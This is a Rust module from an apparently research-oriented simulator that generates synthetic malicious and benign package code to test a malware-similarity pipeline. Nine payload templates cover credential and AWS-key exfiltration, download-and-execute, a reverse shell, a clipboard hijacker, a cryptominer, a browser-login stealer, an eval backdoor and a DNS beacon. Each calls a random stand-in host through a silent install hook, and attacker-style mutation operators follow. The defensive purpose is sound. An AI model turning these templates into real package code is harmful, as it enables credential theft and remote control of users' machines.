//! Malicious (and benign) package code generation.
//!
//! Attack campaigns in the corpus reuse a small number of behaviour
//! families — credential exfiltration, download-and-execute droppers,
//! reverse shells, clipboard hijackers, cryptominers… (paper §I, §IV-C).
//! The simulator needs *actual source code* with those behaviours so the
//! similarity pipeline (AST → embedding → K-Means) and the CC diff metric
//! operate on real inputs. This module generates such code from nine
//! behaviour templates, plus benign filler, plus the small *mutation
//! operators* an attacker applies between release attempts (the paper
//! measured ≈3.7 changed lines per CC operation).

use crate::ast::{BinOp, Expr, Module, Stmt};
use rand::seq::SliceRandom;
use rand::Rng;

/// A malicious behaviour family.
///
/// These correspond to the behaviours the paper's introduction lists
/// (backdoors, sensitive-data theft, payload download, cryptominers) plus
/// the common families in the referenced report corpus.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Behavior {
    /// Steal environment variables and POST them to a collector.
    ExfilEnv,
    /// Extract AWS credentials/token files (the "Fallguys"/pygrata style).
    ExfilAws,
    /// Download a second-stage payload and execute it.
    DownloadExecute,
    /// Open a reverse shell to a hard-coded host.
    ReverseShell,
    /// Replace cryptocurrency addresses on the clipboard.
    ClipboardHijack,
    /// Spawn a cryptominer.
    CryptoMiner,
    /// Harvest browser/gaming credentials ("Fallguys" infostealer).
    InfoStealer,
    /// Install a persistent backdoor (the bootstrap-sass style).
    Backdoor,
    /// Beacon host fingerprints over DNS (dependency-confusion probes).
    DnsBeacon,
}

impl Behavior {
    /// All nine behaviour families.
    pub const ALL: [Behavior; 9] = [
        Behavior::ExfilEnv,
        Behavior::ExfilAws,
        Behavior::DownloadExecute,
        Behavior::ReverseShell,
        Behavior::ClipboardHijack,
        Behavior::CryptoMiner,
        Behavior::InfoStealer,
        Behavior::Backdoor,
        Behavior::DnsBeacon,
    ];

    /// Stable snake_case label.
    pub fn label(self) -> &'static str {
        match self {
            Behavior::ExfilEnv => "exfil_env",
            Behavior::ExfilAws => "exfil_aws",
            Behavior::DownloadExecute => "download_execute",
            Behavior::ReverseShell => "reverse_shell",
            Behavior::ClipboardHijack => "clipboard_hijack",
            Behavior::CryptoMiner => "cryptominer",
            Behavior::InfoStealer => "infostealer",
            Behavior::Backdoor => "backdoor",
            Behavior::DnsBeacon => "dns_beacon",
        }
    }
}

impl std::fmt::Display for Behavior {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.label())
    }
}

fn rand_host(rng: &mut impl Rng) -> String {
    const WORDS: [&str; 12] = [
        "cdn", "stats", "api", "update", "mirror", "files", "pkg", "sync", "node", "assets",
        "logs", "beacon",
    ];
    const TLDS: [&str; 5] = ["xyz", "top", "site", "info", "live"];
    format!(
        "{}-{}{}.{}",
        WORDS.choose(rng).expect("non-empty"),
        WORDS.choose(rng).expect("non-empty"),
        rng.gen_range(0..100),
        TLDS.choose(rng).expect("non-empty"),
    )
}

fn rand_ident(rng: &mut impl Rng, prefix: &str) -> String {
    format!("{prefix}{}", rng.gen_range(0..10_000))
}

/// Generates a module carrying `behavior`, seasoned with benign filler.
///
/// The output always contains: the behaviour's import header, a payload
/// function, `0..=2` benign filler functions, and an install-time hook
/// that invokes the payload inside `try/except` (install-time attacks are
/// the dominant trigger in the OSS corpus).
pub fn generate(behavior: Behavior, rng: &mut impl Rng) -> Module {
    let mut body = Vec::new();
    let payload_name = rand_ident(rng, "task_");
    let (imports, payload) = payload_for(behavior, &payload_name, rng);
    body.extend(imports);
    let n_filler = rng.gen_range(0..=1);
    for _ in 0..n_filler {
        body.push(benign_function(rng));
    }
    // Every lineage gets 1–2 structurally random functions: real campaign
    // code bases differ in shape, not just in literals, and the
    // similarity pipeline must separate campaigns that share a behaviour
    // family.
    for _ in 0..rng.gen_range(2..=3) {
        body.push(junk_function(rng));
    }
    body.push(payload);
    // Install-time hook: silent on failure.
    body.push(Stmt::Try {
        body: vec![Stmt::Expr(Expr::call(Expr::name(&payload_name), vec![]))],
        handler: vec![Stmt::Pass],
    });
    Module::new(body)
}

/// Generates a fully benign module (utility-library style). Used for the
/// innocent-looking front package of a dependency attack (paper Fig. 7)
/// and the initial trojan releases of Table VIII campaigns.
pub fn generate_benign(rng: &mut impl Rng) -> Module {
    let mut body = Vec::new();
    let n = rng.gen_range(1..=2);
    for _ in 0..n {
        body.push(benign_function(rng));
    }
    // Benign code bases differ structurally across authors too.
    for _ in 0..rng.gen_range(2..=3) {
        body.push(junk_function(rng));
    }
    Module::new(body)
}

fn payload_for(behavior: Behavior, name: &str, rng: &mut impl Rng) -> (Vec<Stmt>, Stmt) {
    let host = rand_host(rng);
    let url = format!("http://{host}/u/{}", rng.gen_range(100..999));
    match behavior {
        Behavior::ExfilEnv => (
            vec![import("os"), import("requests")],
            fn_def(
                name,
                vec![],
                vec![
                    assign("data", Expr::mcall("os", "environ", vec![])),
                    Stmt::Expr(Expr::mcall(
                        "requests",
                        "post",
                        vec![Expr::str(url), Expr::name("data")],
                    )),
                    Stmt::Return(Some(Expr::Bool(true))),
                ],
            ),
        ),
        Behavior::ExfilAws => (
            vec![import("os"), import("requests")],
            fn_def(
                name,
                vec![],
                vec![
                    assign(
                        "key",
                        Expr::mcall("os", "getenv", vec![Expr::str("AWS_ACCESS_KEY_ID")]),
                    ),
                    assign(
                        "secret",
                        Expr::mcall("os", "getenv", vec![Expr::str("AWS_SECRET_ACCESS_KEY")]),
                    ),
                    Stmt::If {
                        cond: Expr::Binary {
                            op: BinOp::And,
                            lhs: Box::new(Expr::name("key")),
                            rhs: Box::new(Expr::name("secret")),
                        },
                        body: vec![Stmt::Expr(Expr::mcall(
                            "requests",
                            "post",
                            vec![
                                Expr::str(url),
                                Expr::Dict(vec![
                                    (Expr::str("k"), Expr::name("key")),
                                    (Expr::str("s"), Expr::name("secret")),
                                ]),
                            ],
                        ))],
                        orelse: vec![],
                    },
                ],
            ),
        ),
        Behavior::DownloadExecute => (
            vec![import("requests"), import("subprocess"), import("os")],
            fn_def(
                name,
                vec![],
                vec![
                    assign("blob", Expr::mcall("requests", "get", vec![Expr::str(url)])),
                    assign("path", Expr::str(format!("/tmp/.{}", rand_ident(rng, "x")))),
                    Stmt::Expr(Expr::mcall(
                        "os",
                        "write_file",
                        vec![
                            Expr::name("path"),
                            Expr::attr(Expr::name("blob"), "content"),
                        ],
                    )),
                    Stmt::Expr(Expr::mcall("subprocess", "run", vec![Expr::name("path")])),
                ],
            ),
        ),
        Behavior::ReverseShell => (
            vec![import("socket"), import("subprocess")],
            fn_def(
                name,
                vec![],
                vec![
                    assign("sock", Expr::mcall("socket", "socket", vec![])),
                    Stmt::Expr(Expr::call(
                        Expr::attr(Expr::name("sock"), "connect"),
                        vec![
                            Expr::str(host.clone()),
                            Expr::Int(rng.gen_range(1024..65535)),
                        ],
                    )),
                    Stmt::While {
                        cond: Expr::Bool(true),
                        body: vec![
                            assign(
                                "cmd",
                                Expr::call(
                                    Expr::attr(Expr::name("sock"), "recv"),
                                    vec![Expr::Int(1024)],
                                ),
                            ),
                            Stmt::Expr(Expr::mcall("subprocess", "run", vec![Expr::name("cmd")])),
                        ],
                    },
                ],
            ),
        ),
        Behavior::ClipboardHijack => (
            vec![import("clipboard"), import("re")],
            fn_def(
                name,
                vec![],
                vec![
                    assign(
                        "wallet",
                        Expr::str(format!("1Hijack{}", rng.gen_range(1000..9999))),
                    ),
                    Stmt::While {
                        cond: Expr::Bool(true),
                        body: vec![
                            assign("text", Expr::mcall("clipboard", "paste", vec![])),
                            Stmt::If {
                                cond: Expr::mcall(
                                    "re",
                                    "match",
                                    vec![Expr::str("^1[A-Za-z0-9]{25}"), Expr::name("text")],
                                ),
                                body: vec![Stmt::Expr(Expr::mcall(
                                    "clipboard",
                                    "copy",
                                    vec![Expr::name("wallet")],
                                ))],
                                orelse: vec![],
                            },
                        ],
                    },
                ],
            ),
        ),
        Behavior::CryptoMiner => (
            vec![import("subprocess"), import("requests")],
            fn_def(
                name,
                vec![],
                vec![
                    assign(
                        "miner",
                        Expr::mcall("requests", "get", vec![Expr::str(url)]),
                    ),
                    assign("pool", Expr::str(format!("stratum://{host}:3333"))),
                    Stmt::Expr(Expr::mcall(
                        "subprocess",
                        "run",
                        vec![
                            Expr::attr(Expr::name("miner"), "content"),
                            Expr::name("pool"),
                        ],
                    )),
                ],
            ),
        ),
        Behavior::InfoStealer => (
            vec![import("os"), import("glob"), import("requests")],
            fn_def(
                name,
                vec![],
                vec![
                    assign(
                        "paths",
                        Expr::mcall("glob", "glob", vec![Expr::str("~/.config/*/Login Data")]),
                    ),
                    Stmt::For {
                        var: "p".into(),
                        iter: Expr::name("paths"),
                        body: vec![
                            assign(
                                "loot",
                                Expr::mcall("os", "read_file", vec![Expr::name("p")]),
                            ),
                            Stmt::Expr(Expr::mcall(
                                "requests",
                                "post",
                                vec![Expr::str(url.clone()), Expr::name("loot")],
                            )),
                        ],
                    },
                ],
            ),
        ),
        Behavior::Backdoor => (
            vec![import("base64"), import("requests")],
            fn_def(
                name,
                vec![],
                vec![
                    assign("cmd", Expr::mcall("requests", "get", vec![Expr::str(url)])),
                    assign(
                        "decoded",
                        Expr::mcall(
                            "base64",
                            "b64decode",
                            vec![Expr::attr(Expr::name("cmd"), "content")],
                        ),
                    ),
                    Stmt::Expr(Expr::call(Expr::name("eval"), vec![Expr::name("decoded")])),
                ],
            ),
        ),
        Behavior::DnsBeacon => (
            vec![import("socket"), import("os")],
            fn_def(
                name,
                vec![],
                vec![
                    assign("host", Expr::mcall("socket", "gethostname", vec![])),
                    assign("user", Expr::mcall("os", "getenv", vec![Expr::str("USER")])),
                    assign(
                        "probe",
                        Expr::Binary {
                            op: BinOp::Add,
                            lhs: Box::new(Expr::Binary {
                                op: BinOp::Add,
                                lhs: Box::new(Expr::name("host")),
                                rhs: Box::new(Expr::str(".")),
                            }),
                            rhs: Box::new(Expr::str(host.clone())),
                        },
                    ),
                    Stmt::Expr(Expr::mcall(
                        "socket",
                        "gethostbyname",
                        vec![Expr::name("probe")],
                    )),
                    Stmt::Return(Some(Expr::name("user"))),
                ],
            ),
        ),
    }
}

fn benign_function(rng: &mut impl Rng) -> Stmt {
    let name = rand_ident(rng, "util_");
    match rng.gen_range(0..3) {
        0 => fn_def(
            &name,
            vec!["items".into()],
            vec![
                assign("total", Expr::Int(0)),
                Stmt::For {
                    var: "i".into(),
                    iter: Expr::name("items"),
                    body: vec![assign(
                        "total",
                        Expr::Binary {
                            op: BinOp::Add,
                            lhs: Box::new(Expr::name("total")),
                            rhs: Box::new(Expr::name("i")),
                        },
                    )],
                },
                Stmt::Return(Some(Expr::name("total"))),
            ],
        ),
        1 => fn_def(
            &name,
            vec!["text".into()],
            vec![
                assign(
                    "clean",
                    Expr::call(Expr::attr(Expr::name("text"), "strip"), vec![]),
                ),
                Stmt::Return(Some(Expr::call(
                    Expr::attr(Expr::name("clean"), "lower"),
                    vec![],
                ))),
            ],
        ),
        _ => fn_def(
            &name,
            vec!["n".into()],
            vec![Stmt::If {
                cond: Expr::Binary {
                    op: BinOp::Lt,
                    lhs: Box::new(Expr::name("n")),
                    rhs: Box::new(Expr::Int(2)),
                },
                body: vec![Stmt::Return(Some(Expr::Int(1)))],
                orelse: vec![Stmt::Return(Some(Expr::Binary {
                    op: BinOp::Mul,
                    lhs: Box::new(Expr::name("n")),
                    rhs: Box::new(Expr::call(
                        Expr::name(&name),
                        vec![Expr::Binary {
                            op: BinOp::Sub,
                            lhs: Box::new(Expr::name("n")),
                            rhs: Box::new(Expr::Int(1)),
                        }],
                    )),
                }))],
            }],
        ),
    }
}

/// A function with *random structure*: a unique statement/expression
/// shape per call, giving each code lineage a distinctive structural
/// fingerprint (random literals alone are invisible to the canonicalized
/// embedding, which buckets them).
fn junk_function(rng: &mut impl Rng) -> Stmt {
    fn rand_expr(rng: &mut impl Rng, vars: &[String], depth: usize) -> Expr {
        if depth == 0 || rng.gen_bool(0.4) {
            return if vars.is_empty() || rng.gen_bool(0.3) {
                Expr::Int(rng.gen_range(0..100))
            } else {
                Expr::name(vars.choose(rng).expect("non-empty").clone())
            };
        }
        let ops = [BinOp::Add, BinOp::Sub, BinOp::Mul, BinOp::Mod];
        Expr::Binary {
            op: *ops.choose(rng).expect("non-empty"),
            lhs: Box::new(rand_expr(rng, vars, depth - 1)),
            rhs: Box::new(rand_expr(rng, vars, depth - 1)),
        }
    }
    let name = rand_ident(rng, "calc_");
    let helper = rand_ident(rng, "hlib_");
    let mut vars: Vec<String> = vec!["seed".into()];
    let mut body: Vec<Stmt> = Vec::new();
    let n_stmts = rng.gen_range(4..=9);
    for i in 0..n_stmts {
        let var = format!("t{i}");
        let depth = rng.gen_range(1..=3);
        let mut value = rand_expr(rng, &vars, depth);
        // Most statements call a lineage-unique helper API — undefined
        // global names and attribute names survive canonicalization, so
        // these are the strongest distinguishing signal between code
        // bases (mirroring how real campaigns each carry their own
        // internal helper modules and methods).
        if rng.gen_bool(0.85) {
            value = Expr::call(
                Expr::attr(Expr::name(&helper), rand_ident(rng, "op_")),
                vec![value],
            );
        }
        match rng.gen_range(0..4) {
            0 => body.push(Stmt::If {
                cond: Expr::Binary {
                    op: BinOp::Gt,
                    lhs: Box::new(rand_expr(rng, &vars, 1)),
                    rhs: Box::new(Expr::Int(rng.gen_range(0..50))),
                },
                body: vec![Stmt::Assign {
                    target: Expr::name(var.clone()),
                    value: value.clone(),
                }],
                orelse: vec![Stmt::Assign {
                    target: Expr::name(var.clone()),
                    value: Expr::Int(rng.gen_range(0..10)),
                }],
            }),
            1 => body.push(Stmt::For {
                var: "k".into(),
                iter: Expr::name("seed"),
                body: vec![Stmt::Assign {
                    target: Expr::name(var.clone()),
                    value,
                }],
            }),
            _ => body.push(Stmt::Assign {
                target: Expr::name(var.clone()),
                value,
            }),
        }
        vars.push(var);
    }
    body.push(Stmt::Return(Some(rand_expr(rng, &vars, 2))));
    fn_def(&name, vec!["seed".into()], body)
}

fn import(module: &str) -> Stmt {
    Stmt::Import {
        module: module.into(),
        alias: None,
    }
}

fn assign(name: &str, value: Expr) -> Stmt {
    Stmt::Assign {
        target: Expr::name(name),
        value,
    }
}

fn fn_def(name: &str, params: Vec<String>, body: Vec<Stmt>) -> Stmt {
    Stmt::FunctionDef {
        name: name.into(),
        params,
        body,
    }
}

/// A small source mutation an attacker applies between release attempts.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Mutation {
    /// Swap the hard-coded endpoint / wallet / path string.
    SwapStringLiteral,
    /// Rename one locally defined identifier.
    RenameIdentifier,
    /// Append one benign filler function.
    InsertBenignFunction,
    /// Perturb one integer constant (port, size, …).
    TweakIntConstant,
}

impl Mutation {
    /// All mutation operators.
    pub const ALL: [Mutation; 4] = [
        Mutation::SwapStringLiteral,
        Mutation::RenameIdentifier,
        Mutation::InsertBenignFunction,
        Mutation::TweakIntConstant,
    ];
}

/// Applies `mutation` to a copy of `module`. The result parses/prints
/// cleanly and differs by a handful of lines — matching the paper's
/// observation of ≈3.7 changed lines per CC operation.
pub fn mutate(module: &Module, mutation: Mutation, rng: &mut impl Rng) -> Module {
    let mut out = module.clone();
    match mutation {
        Mutation::SwapStringLiteral => {
            let fresh = format!("http://{}/u/{}", rand_host(rng), rng.gen_range(100..999));
            let mut done = false;
            for stmt in &mut out.body {
                if !done {
                    done = swap_first_str(stmt, &fresh);
                }
            }
        }
        Mutation::RenameIdentifier => {
            if let Some(old) = first_defined_name(&out) {
                let fresh = rand_ident(rng, "q_");
                rename_everywhere(&mut out, &old, &fresh);
            }
        }
        Mutation::InsertBenignFunction => {
            let f = benign_function(rng);
            let pos = out
                .body
                .iter()
                .position(|s| !matches!(s, Stmt::Import { .. } | Stmt::FromImport { .. }))
                .unwrap_or(out.body.len());
            out.body.insert(pos, f);
        }
        Mutation::TweakIntConstant => {
            let delta = rng.gen_range(1..7);
            let mut done = false;
            for stmt in &mut out.body {
                if !done {
                    done = tweak_first_int(stmt, delta);
                }
            }
        }
    }
    out
}

fn swap_first_str(stmt: &mut Stmt, fresh: &str) -> bool {
    visit_exprs_mut(stmt, &mut |e| {
        if let Expr::Str(s) = e {
            if s.starts_with("http://") || s.starts_with("stratum://") {
                *s = fresh.to_owned();
                return true;
            }
        }
        false
    })
}

fn tweak_first_int(stmt: &mut Stmt, delta: i64) -> bool {
    visit_exprs_mut(stmt, &mut |e| {
        if let Expr::Int(v) = e {
            if *v > 1 {
                *v += delta;
                return true;
            }
        }
        false
    })
}

/// Applies `f` to expressions in pre-order until it returns `true`.
fn visit_exprs_mut(stmt: &mut Stmt, f: &mut impl FnMut(&mut Expr) -> bool) -> bool {
    fn expr(e: &mut Expr, f: &mut impl FnMut(&mut Expr) -> bool) -> bool {
        if f(e) {
            return true;
        }
        match e {
            Expr::Call { callee, args } => expr(callee, f) || args.iter_mut().any(|a| expr(a, f)),
            Expr::Attribute { value, .. } => expr(value, f),
            Expr::Index { value, index } => expr(value, f) || expr(index, f),
            Expr::Binary { lhs, rhs, .. } => expr(lhs, f) || expr(rhs, f),
            Expr::Unary { operand, .. } => expr(operand, f),
            Expr::List(items) => items.iter_mut().any(|i| expr(i, f)),
            Expr::Dict(pairs) => pairs.iter_mut().any(|(k, v)| expr(k, f) || expr(v, f)),
            _ => false,
        }
    }
    match stmt {
        Stmt::Assign { target, value } => expr(target, f) || expr(value, f),
        Stmt::Expr(e) | Stmt::Raise(e) => expr(e, f),
        Stmt::Return(Some(e)) => expr(e, f),
        Stmt::FunctionDef { body, .. } => body.iter_mut().any(|s| visit_exprs_mut(s, f)),
        Stmt::If { cond, body, orelse } => {
            expr(cond, f)
                || body.iter_mut().any(|s| visit_exprs_mut(s, f))
                || orelse.iter_mut().any(|s| visit_exprs_mut(s, f))
        }
        Stmt::For { iter, body, .. } => {
            expr(iter, f) || body.iter_mut().any(|s| visit_exprs_mut(s, f))
        }
        Stmt::While { cond, body } => {
            expr(cond, f) || body.iter_mut().any(|s| visit_exprs_mut(s, f))
        }
        Stmt::Try { body, handler } => {
            body.iter_mut().any(|s| visit_exprs_mut(s, f))
                || handler.iter_mut().any(|s| visit_exprs_mut(s, f))
        }
        _ => false,
    }
}

fn first_defined_name(module: &Module) -> Option<String> {
    for stmt in &module.body {
        match stmt {
            Stmt::Assign {
                target: Expr::Name(n),
                ..
            } => return Some(n.clone()),
            Stmt::FunctionDef { body, .. } => {
                for inner in body {
                    if let Stmt::Assign {
                        target: Expr::Name(n),
                        ..
                    } = inner
                    {
                        return Some(n.clone());
                    }
                }
            }
            _ => {}
        }
    }
    None
}

fn rename_everywhere(module: &mut Module, old: &str, fresh: &str) {
    fn in_expr(e: &mut Expr, old: &str, fresh: &str) {
        match e {
            Expr::Name(n) if n == old => {
                *n = fresh.to_owned();
            }
            Expr::Call { callee, args } => {
                in_expr(callee, old, fresh);
                for a in args {
                    in_expr(a, old, fresh);
                }
            }
            Expr::Attribute { value, .. } => in_expr(value, old, fresh),
            Expr::Index { value, index } => {
                in_expr(value, old, fresh);
                in_expr(index, old, fresh);
            }
            Expr::Binary { lhs, rhs, .. } => {
                in_expr(lhs, old, fresh);
                in_expr(rhs, old, fresh);
            }
            Expr::Unary { operand, .. } => in_expr(operand, old, fresh),
            Expr::List(items) => {
                for i in items {
                    in_expr(i, old, fresh);
                }
            }
            Expr::Dict(pairs) => {
                for (k, v) in pairs {
                    in_expr(k, old, fresh);
                    in_expr(v, old, fresh);
                }
            }
            _ => {}
        }
    }
    fn in_stmt(s: &mut Stmt, old: &str, fresh: &str) {
        match s {
            Stmt::Assign { target, value } => {
                in_expr(target, old, fresh);
                in_expr(value, old, fresh);
            }
            Stmt::Expr(e) | Stmt::Raise(e) => in_expr(e, old, fresh),
            Stmt::Return(Some(e)) => in_expr(e, old, fresh),
            Stmt::FunctionDef { body, .. } => {
                for s in body {
                    in_stmt(s, old, fresh);
                }
            }
            Stmt::If { cond, body, orelse } => {
                in_expr(cond, old, fresh);
                for s in body.iter_mut().chain(orelse) {
                    in_stmt(s, old, fresh);
                }
            }
            Stmt::For { var, iter, body } => {
                if var == old {
                    *var = fresh.to_owned();
                }
                in_expr(iter, old, fresh);
                for s in body {
                    in_stmt(s, old, fresh);
                }
            }
            Stmt::While { cond, body } => {
                in_expr(cond, old, fresh);
                for s in body {
                    in_stmt(s, old, fresh);
                }
            }
            Stmt::Try { body, handler } => {
                for s in body.iter_mut().chain(handler) {
                    in_stmt(s, old, fresh);
                }
            }
            _ => {}
        }
    }
    for stmt in &mut module.body {
        in_stmt(stmt, old, fresh);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::diff::line_diff;
    use crate::parse;
    use crate::printer::print_module;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn rng(seed: u64) -> StdRng {
        StdRng::seed_from_u64(seed)
    }

    #[test]
    fn generated_code_parses() {
        let mut r = rng(1);
        for behavior in Behavior::ALL {
            for _ in 0..5 {
                let m = generate(behavior, &mut r);
                let src = print_module(&m);
                parse(&src).unwrap_or_else(|e| panic!("{behavior}: {e}\n{src}"));
            }
        }
    }

    #[test]
    fn generation_is_deterministic_per_seed() {
        let a = generate(Behavior::ExfilAws, &mut rng(7));
        let b = generate(Behavior::ExfilAws, &mut rng(7));
        assert_eq!(print_module(&a), print_module(&b));
    }

    #[test]
    fn different_behaviors_differ() {
        let mut r = rng(3);
        let a = generate(Behavior::ExfilEnv, &mut r);
        let b = generate(Behavior::CryptoMiner, &mut r);
        assert_ne!(print_module(&a), print_module(&b));
    }

    #[test]
    fn payload_contains_install_hook() {
        let m = generate(Behavior::Backdoor, &mut rng(9));
        assert!(
            matches!(m.body.last(), Some(Stmt::Try { .. })),
            "last statement must be the silent install-time hook"
        );
    }

    #[test]
    fn benign_code_parses_and_has_no_network_imports() {
        let mut r = rng(11);
        for _ in 0..10 {
            let m = generate_benign(&mut r);
            let src = print_module(&m);
            parse(&src).unwrap();
            assert!(!src.contains("requests"), "benign code must stay offline");
            assert!(!src.contains("socket"));
        }
    }

    #[test]
    fn mutations_produce_small_parseable_diffs() {
        let mut r = rng(21);
        let base = generate(Behavior::DownloadExecute, &mut r);
        for mutation in Mutation::ALL {
            let mutated = mutate(&base, mutation, &mut r);
            let src = print_module(&mutated);
            parse(&src).unwrap_or_else(|e| panic!("{mutation:?}: {e}\n{src}"));
            let stats = line_diff(&base, &mutated);
            assert!(
                stats.changed_lines() >= 1,
                "{mutation:?} must change something"
            );
            assert!(
                stats.changed_lines() <= 8,
                "{mutation:?} changed {} lines, expected a small diff",
                stats.changed_lines()
            );
        }
    }

    #[test]
    fn swap_string_changes_exactly_the_endpoint() {
        let mut r = rng(33);
        let base = generate(Behavior::ExfilEnv, &mut r);
        let mutated = mutate(&base, Mutation::SwapStringLiteral, &mut r);
        let stats = line_diff(&base, &mutated);
        assert_eq!(stats.changed_lines(), 1);
    }

    #[test]
    fn rename_keeps_behavior_under_canonicalization() {
        use crate::canon::canonicalize;
        let mut r = rng(55);
        let base = generate(Behavior::ExfilAws, &mut r);
        let renamed = mutate(&base, Mutation::RenameIdentifier, &mut r);
        assert_eq!(
            print_module(&canonicalize(&base)),
            print_module(&canonicalize(&renamed)),
            "identifier renaming must be invisible after canonicalization"
        );
    }

    #[test]
    fn insert_benign_grows_module() {
        let mut r = rng(77);
        let base = generate(Behavior::DnsBeacon, &mut r);
        let grown = mutate(&base, Mutation::InsertBenignFunction, &mut r);
        assert_eq!(grown.body.len(), base.body.len() + 1);
    }
}
